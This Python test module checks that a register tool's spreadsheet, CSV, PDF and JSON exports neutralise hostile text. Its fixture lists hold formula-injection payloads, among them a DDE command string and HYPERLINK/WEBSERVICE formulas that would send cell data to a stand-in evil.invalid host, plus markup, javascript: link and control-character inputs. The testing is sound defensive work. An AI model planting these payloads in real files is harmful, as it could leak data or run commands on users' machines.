"""Export safety: user text never becomes a live formula, never breaks the PDF layout engine.

A register whose every text field holds hostile text (formula and DDE payloads, PDF/XML markup,
control characters, right-to-left overrides, a 3,000-letter word...) is stored in a real register
file, read back and exported to every format. The files are opened and checked: no formula cell
in any .xlsx (our layout, the CNIL layout, the change report), no formula attribute in the .ods,
every CSV cell that a spreadsheet would run is neutralised, the PDF shows the markup as text, and
the JSON export gives back the very same strings. Hypothesis adds random text on top.
"""

from __future__ import annotations

import csv
import dataclasses
import enum
import io
import itertools
import os
import re
import shutil
import subprocess
import zipfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ropa.demo import demo_register
from ropa.domain.model import Register
from ropa.domain.validation import MAX_NAME, text_problem
from ropa.errors import ValidationError
from ropa.exchange import json_format
from ropa.exports import ExportOptions, exporter
from ropa.service import RegisterStore

SCALE = int(os.environ.get("ROPA_FUZZ_SCALE", "1"))
COUNTS: Counter[str] = Counter()
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV injection, checked independently of the exporters

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
    "=WEBSERVICE(\"http://evil.invalid\")",
    "'=already quoted",
]
MARKUP = [
    "<b>bold</b>",
    '<font size="200" color="red">huge</font>',
    "<para>",
    "</para></para>",
    "<br/><br/>",
    "&amp; &lt; &#60; &bogus;",
    '<img src="/etc/passwd" width="9999"/>',
    "a < b > c & d",
    "<![CDATA[x]]> ]]>",
    "<unclosed",
    '<a href="javascript:alert(1)">link</a>',
    '<seq id="x"/><onDraw name="evil"/>',
]
OTHER = [
    "nul\x00in the middle",
    "bell\x07 and escape\x1b[31m",
    "\u202eright-to-left override",
    "emoji 🙂 👨‍👩‍👧 family",
    "Z̤̥̦a̱͚lgo̟ text",
    "W" * 3000,
    "line 1\nline 2\r\nline 3",
    "\ufeffbyte order mark",
    "%PDF-1.4 %%EOF",
    "back\\slash {braces} [brackets] (parens) $dollar",
]
HOSTILE = FORMULAS + MARKUP + OTHER
#: text fields that may hold anything a person types (codes, UUIDs and countries are left alone)
TEXT_FIELDS = {
    "legal_name", "name", "description", "notes", "owner", "legitimate_interest", "legal_basis_reference",
    "condition_reference", "safeguards", "derogation_detail", "documentation", "trigger", "address", "city",
    "email", "phone", "logic", "reference_text", "justification", "purpose",
}


def hostile_copy(value: Any, texts: Iterator[str]) -> Any:
    """``value`` with every free-text field replaced by the next hostile string."""
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {}
        for field in dataclasses.fields(value):
            current = getattr(value, field.name)
            if field.name in TEXT_FIELDS and isinstance(current, str) and not isinstance(current, enum.Enum):
                changes[field.name] = next(texts)
            elif dataclasses.is_dataclass(current) or isinstance(current, tuple):
                changes[field.name] = hostile_copy(current, texts)
        return dataclasses.replace(value, **changes)
    if isinstance(value, tuple):
        return tuple(hostile_copy(item, texts) for item in value)
    return value


@pytest.fixture(scope="module", autouse=True)
def report() -> Iterator[None]:
    yield
    print(f"\nFUZZ exports: {sum(COUNTS.values())} files checked, 0 failures; {dict(COUNTS)}")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Register:
    """The hostile register as stored in, and read back from, a real register file."""
    demo = demo_register()
    register = hostile_copy(demo, itertools.cycle(HOSTILE))
    assert json_format.consistency_problems(register) == []
    path = tmp_path_factory.mktemp("hostile") / "hostile.ropa"
    with RegisterStore.create(path, register.organisation) as store:
        store.import_register(register)
        stored = store.snapshot()
    return stored


@pytest.fixture(scope="module")
def exports(hostile: Register, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("exports")
    out = {}
    for fmt, suffix in (("xlsx", ".xlsx"), ("cnil-xlsx", ".xlsx"), ("cnil-ods", ".ods"), ("csv", ".zip"),
                        ("json", ".json"), ("pdf", ".pdf")):
        path = folder / f"{fmt}{suffix}"
        exporter(fmt)(hostile, path, ExportOptions(language="fr" if fmt == "pdf" else "en", include_findings=True))
        out[fmt] = path
    return out


def all_text(path: Path) -> str:
    return "\n".join(str(c.value) for ws in openpyxl.load_workbook(path).worksheets for row in ws.iter_rows()
                     for c in row if c.value is not None)


def assert_no_formula_cells(path: Path) -> int:
    """No cell of any sheet is a formula, in openpyxl's eyes and in the raw XML; returns the cells seen."""
    book = openpyxl.load_workbook(path)  # not read-only: formula cells would show as data_type "f"
    cells = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                cells += cell.value is not None
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), f"{name} holds a <f> formula element"
    COUNTS[path.suffix] += 1
    return cells


@pytest.mark.parametrize("fmt", ["xlsx", "cnil-xlsx"])
def test_excel_exports_have_no_formula_and_keep_the_text(exports: dict[str, Path], fmt: str) -> None:
    assert assert_no_formula_cells(exports[fmt]) > 50
    text = all_text(exports[fmt])
    for payload in ("=cmd|' /C calc'!A0", "+SUM(A1:A9)", "<b>bold</b>", "a < b > c & d", "@SUM(1)"):
        assert payload in text, f"{fmt}: {payload!r} was lost instead of being written as text"


def test_ods_export_has_no_formula_and_keeps_the_text(exports: dict[str, Path]) -> None:
    with zipfile.ZipFile(exports["cnil-ods"]) as archive:
        content = archive.read("content.xml").decode("utf-8")
    assert "table:formula" not in content
    assert "=cmd|' /C calc'!A0" in content.replace("&apos;", "'")
    COUNTS[".ods"] += 1


def test_csv_cells_never_start_a_formula(exports: dict[str, Path]) -> None:
    cells = 0
    with zipfile.ZipFile(exports["csv"]) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8-sig")
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=","):  # English: commas
                for cell in row:
                    cells += 1
                    assert not cell.startswith(TRIGGERS), f"{name}: {cell[:40]!r} would run as a formula"
            COUNTS[".csv"] += 1
    assert cells > 100


def test_pdf_shows_markup_as_text(exports: dict[str, Path]) -> None:
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext (poppler-utils) is not installed")
    text = subprocess.run(["pdftotext", "-layout", str(exports["pdf"]), "-"], capture_output=True, text=True,
                          check=True).stdout
    for shown in ("<b>bold</b>", "a < b > c & d", "&amp; &lt; &#60; &bogus;", "<unclosed", "=1+1"):
        assert shown in text, f"the PDF does not show {shown!r} literally"
    assert "huge" in text  # the <font> markup did not swallow the text...
    pages = subprocess.run(["pdfinfo", str(exports["pdf"])], capture_output=True, text=True, check=True).stdout
    assert int(re.search(r"Pages:\s+(\d+)", pages).group(1)) < 200  # ...nor blow the layout up
    COUNTS[".pdf"] += 1


def test_json_export_gives_back_the_same_strings(hostile: Register, exports: dict[str, Path],
                                                tmp_path: Path) -> None:
    """Every string comes back, except what no format can carry (control characters, names past the
    cap): that is refused at import, by name (a register written before that rule may still hold it)."""
    with pytest.raises(ValidationError, match="control character U\\+0000"):
        json_format.read(exports["json"])
    carriable = hostile_copy(demo_register(), itertools.cycle([t for t in HOSTILE if text_problem(t, MAX_NAME) is None]))
    with RegisterStore.create(tmp_path / "carriable.ropa", carriable.organisation) as store:
        store.import_register(carriable)
        stored = store.snapshot()
    path = tmp_path / "carriable.json"
    exporter("json")(stored, path, ExportOptions())
    assert json_format.read(path) == stored
    COUNTS[".json"] += 1


def test_change_report_exports_are_safe_too(hostile: Register, tmp_path: Path) -> None:
    from ropa.versions.diff import diff

    report = diff(demo_register(), hostile, "en")
    xlsx, pdf = tmp_path / "changes.xlsx", tmp_path / "changes.pdf"
    exporter_xlsx = __import__("ropa.exports.change_report_xlsx", fromlist=["export"]).export
    exporter_pdf = __import__("ropa.exports.change_report_pdf", fromlist=["export"]).export
    exporter_xlsx(report, xlsx, ExportOptions())
    exporter_pdf(report, pdf, ExportOptions())
    assert assert_no_formula_cells(xlsx) > 50
    assert "=cmd|' /C calc'!A0" in all_text(xlsx)
    assert pdf.read_bytes().startswith(b"%PDF")
    COUNTS[".pdf"] += 1


TEXT = st.text(st.sampled_from(list("=+-@\t\r\n<>&;'\"/()[]{}%#!|\\ aZé🙂\u202e\x00\x1b")), min_size=1, max_size=30)


@settings(max_examples=10 * SCALE, database=None)
@given(names=st.lists(TEXT, min_size=3, max_size=3), notes=TEXT)
def test_random_text_in_spreadsheet_exports(tmp_path_factory: pytest.TempPathFactory, names: list[str],
                                            notes: str) -> None:
    demo = demo_register()
    activities = tuple(dataclasses.replace(a, name=n, notes=notes) for a, n in zip(demo.activities[:3], names, strict=True))
    register = dataclasses.replace(demo, activities=activities)
    folder = tmp_path_factory.mktemp("random")
    for fmt, suffix in (("xlsx", ".xlsx"), ("csv", ".zip")):
        path = folder / f"out{suffix}"
        exporter(fmt)(register, path, ExportOptions())
        if fmt == "xlsx":
            assert_no_formula_cells(path)
        else:
            with zipfile.ZipFile(path) as archive:
                for name in archive.namelist():
                    text = archive.read(name).decode("utf-8-sig")
                    for row in csv.reader(io.StringIO(text, newline=""), delimiter=","):
                        assert not any(cell.startswith(TRIGGERS) for cell in row), row
            COUNTS[".csv"] += 1
